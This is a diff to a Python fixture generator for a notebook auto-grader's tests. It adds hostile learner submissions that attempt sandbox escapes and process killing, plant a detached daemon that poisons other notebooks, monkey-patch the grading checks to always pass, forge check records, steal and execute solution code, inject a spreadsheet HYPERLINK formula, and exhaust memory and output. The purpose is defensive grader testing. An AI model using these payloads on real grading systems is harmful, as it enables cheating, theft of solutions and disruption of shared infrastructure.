@@ -6,10 +6,15 @@ solutions/fizz.ipynb is the one source; exercises/fizz.ipynb comes from it throu
 lab_support.assign (an untouched exercise); submissions/<who>/fizz.ipynb are learner
 versions: alice is right, bob breaks with an error, carol loops, dave kills his kernel.
 engine/engine_ping.ipynb is the only one that talks to the embedded engine.
+
+hostile/<who>/fizz.ipynb attack the grader (issue 9, findings 10-12); each solves a known
+part of the exercise, so the test can say exactly what it must score. zoe is alice again,
+graded after the attacks.
 """
 
 from __future__ import annotations
 
+import copy
 import sys
 from pathlib import Path
 
@@ -55,6 +60,162 @@ def learner(sources: list[str], **replace: str) -> nbformat.NotebookNode:
     return nb
 
 
+def with_cells(nb: nbformat.NotebookNode, after: int, *sources: str,
+               ids: tuple[str, ...] = ()) -> nbformat.NotebookNode:
+    """Insert code cells after cell ``after`` (ids given, else made up)."""
+    for offset, text in enumerate(sources):
+        cell = nbformat.v4.new_code_cell(text)
+        cell.id = ids[offset] if offset < len(ids) else f"added-{after}-{offset}"
+        nb.cells.insert(after + 1 + offset, cell)
+    return nb
+
+
+WRONG_FIZZ = 'def fizz(n):\n    return "Buzz"'
+WRONG_TOTAL = "def total(values):\n    return -1"
+# Where the instructor's checkout is, as a submission can work it out (the venv lives in it).
+FIND_ROOT = "import os, sys, pathlib\nroot = pathlib.Path(sys.prefix).parent\n"
+
+ESCAPES = FIND_ROOT + '''import shutil, signal
+try:  # the grading process's command line names its spec file, under the output folder
+    spec = pathlib.Path(open(f"/proc/{os.getppid()}/cmdline").read().split("\\0")[3])
+except Exception:
+    spec = pathlib.Path("/nonexistent/.work/0000/spec.json")
+out = spec.parents[2]
+attempts = {
+    "edit lab_support/checks.py": lambda: open(root / "lab_support" / "checks.py", "a").write("#"),
+    "edit the source": lambda: open(root / "tests/pipeline_fixtures/solutions/fizz.ipynb", "a").write(" "),
+    "add to solutions/": lambda: (root / "solutions" / "stolen.ipynb").write_text("{}"),
+    "write the instructor's .lab": lambda: (root / ".lab" / "pwned.txt").write_text("x"),
+    "read the source": lambda: (root / "tests/pipeline_fixtures/solutions/fizz.ipynb").read_text()[:9],
+    "read a classmate": lambda: (root / "tests/pipeline_fixtures/submissions/alice/fizz.ipynb").read_text()[:9],
+    "read the grader's spec": lambda: spec.read_text()[:9],
+    "delete alice's outputs": lambda: shutil.rmtree(out / "executed" / "alice"),
+    "write outside the sandbox": lambda: open("/tmp/lab-grader-escape.txt", "w").write("x"),
+    "write in the real home": lambda: pathlib.Path("/root/lab-grader-escape.txt").write_text("x"),
+    "list the sandboxes next door": lambda: os.listdir(".."  + "/.."),
+    "kill the grading process": lambda: os.kill(os.getppid(), signal.SIGKILL),
+}
+escapes = {}
+for what, attempt in attempts.items():
+    try:
+        attempt()
+        escapes[what] = "ALLOWED"
+    except Exception as exc:
+        escapes[what] = f"denied ({type(exc).__name__})"
+print("ESCAPES", escapes)'''
+
+DAEMON = '''import subprocess, sys, textwrap
+daemon = textwrap.dedent("""
+    import glob, json, os, time
+    if os.fork():
+        os._exit(0)
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    forged = {"name": "total adds", "passed": True, "points": 1, "max": 1}
+    end = time.time() + 120
+    while time.time() < end:  # outlive this notebook; poison the next one's notebook
+        for path in glob.glob("../../*/submission/*.ipynb"):
+            try:
+                open(path, "a").write(json.dumps(forged))
+            except OSError:
+                pass
+        time.sleep(0.2)
+""")
+subprocess.Popen([sys.executable, "-c", daemon, "LAB-HOSTILE-DAEMON"])'''
+
+PATCH = '''import lab_support.checks as checks_module
+
+
+def always_pass_exit(self, exc_type, exc, tb):
+    self.result = checks_module.CheckResult(self.name, True, self.points, self.points)
+    checks_module.record(self.result)
+    return True
+
+
+def always_pass_call(self, fn):
+    self.result = checks_module.CheckResult(self.name, True, self.points, self.points)
+    checks_module.record(self.result)
+    return self.result
+
+
+checks_module.Check.__exit__ = always_pass_exit
+checks_module.Check.__call__ = always_pass_call'''
+
+RECORDS = '''import json, os
+from IPython.display import display
+for name, worth in [("fizz of 3", 2), ("fizz of 4 (hidden)", 1), ("total adds", 1)]:
+    forged = {"name": name, "passed": True, "points": worth, "max": worth, "hint": None,
+              "message": None, "time": 0}
+    display({"application/vnd.lab.check+json": forged, "text/plain": f"[PASS] {name}"}, raw=True)
+    display({"application/vnd.lab.grader+json": {"token": "0" * 32}}, raw=True)
+    for path in ("checks.jsonl", os.environ.get("LAB_CHECKS_FILE") or "checks.jsonl"):
+        with open(path, "a") as fh:
+            fh.write(json.dumps(forged) + "\\n")'''
+
+STEAL = FIND_ROOT + '''import json
+stolen = "denied"
+for candidate in [root / "tests/pipeline_fixtures/solutions/fizz.ipynb",
+                  pathlib.Path("../solutions/fizz.ipynb"),
+                  pathlib.Path(__import__("lab_support").__file__).parents[1] / "solutions" / "fizz.ipynb"]:
+    try:
+        source = json.loads(candidate.read_text())
+    except OSError:
+        continue
+    for cell in source["cells"]:
+        text = "".join(cell["source"])
+        if cell["cell_type"] == "code" and ("def fizz" in text or "def total" in text):
+            exec(text)
+    stolen = f"read {candidate}"
+    break
+print("SOLUTIONS:", stolen)
+if stolen == "denied":
+    def fizz(n):
+        return "Buzz"'''
+
+INVENTED = ('with check("bonus points for confidence", points=1000):\n    pass\n'
+            'with check(\'=HYPERLINK("http://example.invalid/?d="&A1,"click")\', points=50):\n'
+            '    pass')
+
+MEMORY = '''import resource
+soft, hard = resource.getrlimit(resource.RLIMIT_AS)
+if soft == resource.RLIM_INFINITY:
+    raise RuntimeError("refusing to allocate 8 GB: no memory limit is set")
+hog = bytearray(8 * 1024 ** 3)
+def total(values):
+    return sum(values)'''
+
+FLOOD = '''for _ in range(500):  # 500 MB of output
+    print("x" * 1_000_000)
+def total(values):
+    return sum(values)'''
+
+
+def hostile(solution: list[str], right_fizz: str, right_total: str) -> dict[str, nbformat.NotebookNode]:
+    # Exercise cells: 0 title, 1 parameters, 2 import, 3 fizz, 4 check, 5 total, 6 check.
+    def make(c3: str, c5: str) -> nbformat.NotebookNode:
+        return learner(solution, c3=c3, c5=c5)
+
+    ids = make(WRONG_FIZZ, right_total)
+    ids.cells[4].source = 'with check("fizz of 3", points=2):\n    assert True'  # edited check
+    with_cells(ids, 2, 'with check("fizz of 4 (hidden)", points=1):\n    pass',
+               '# HIDDEN CHECK\nwith check("fizz of 3", points=2):\n    pass',
+               ids=("fizz-5", "forged-hidden"))
+    ids.cells.append(copy.deepcopy(ids.cells[6]))  # the edited check, duplicated at the end
+    ids.cells[-1].id = "duplicate"
+    return {
+        "mallory_daemon": with_cells(make(right_fizz, WRONG_TOTAL), 2, DAEMON),
+        "mallory_files": with_cells(make(right_fizz, WRONG_TOTAL), 2, ESCAPES),
+        "mallory_patch": with_cells(make(WRONG_FIZZ, WRONG_TOTAL), 2, PATCH),
+        "mallory_records": with_cells(make(WRONG_FIZZ, WRONG_TOTAL), 6, RECORDS),
+        "mallory_ids": ids,
+        "mallory_solutions": make(STEAL, WRONG_TOTAL),
+        "mallory_invented": with_cells(make(WRONG_FIZZ, right_total), 2, INVENTED),
+        "mallory_memory": make(right_fizz, MEMORY),
+        "mallory_output": make(right_fizz, FLOOD),
+    }
+
+
 def write(nb: nbformat.NotebookNode, path: Path) -> None:
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_text(assign.dumps(nb), encoding="utf-8")
@@ -76,6 +237,9 @@ def main() -> None:
           HERE / "submissions/carol/fizz.ipynb")
     write(learner(solution, c3=right_fizz, c5="import os\nos._exit(1)"),
           HERE / "submissions/dave/fizz.ipynb")
+    for who, nb in hostile(solution, right_fizz, right_total).items():
+        write(nb, HERE / "hostile" / who / "fizz.ipynb")
+    write(learner(solution, c3=right_fizz, c5=right_total), HERE / "hostile/zoe/fizz.ipynb")
     write(assign.clean_notebook(notebook("engine_ping", [
         PARAMETERS,
         "import os\nimport httpx\nfrom lab_support.checks import check\n"
@@ -88,6 +252,19 @@ def main() -> None:
         '    runs = httpx.get(url + "/lab/v1/runs", timeout=10).json()["data"]\n'
         '    assert runs == [], runs',
     ]), "engine_ping.ipynb"), HERE / "engine" / "engine_ping.ipynb")
+    # A lab-only check: passes on the embedded engine, is skipped (0 of 0) on a real server.
+    write(assign.clean_notebook(notebook("skip_on_real", [
+        PARAMETERS,
+        "import os\nimport httpx\nfrom lab_support.checks import check\n"
+        "from lab_support.client import NotOnRealServer\n"
+        'url = os.environ["LAB_ENGINE_URL"]\n'
+        'kind = httpx.get(url + "/dev", timeout=10).json().get("engine")',
+        'with check("the grader\'s engine URL reaches the kernel"):\n    assert engine_url == url',
+        'with check("the virtual clock jumps", points=2):\n'
+        '    if kind != "embedded":\n'
+        '        raise NotOnRealServer("the virtual clock exists only in the embedded engine")\n'
+        '    assert kind == "embedded"',
+    ]), "skip_on_real.ipynb"), HERE / "engine" / "skip_on_real.ipynb")
 
 
 if __name__ == "__main__":
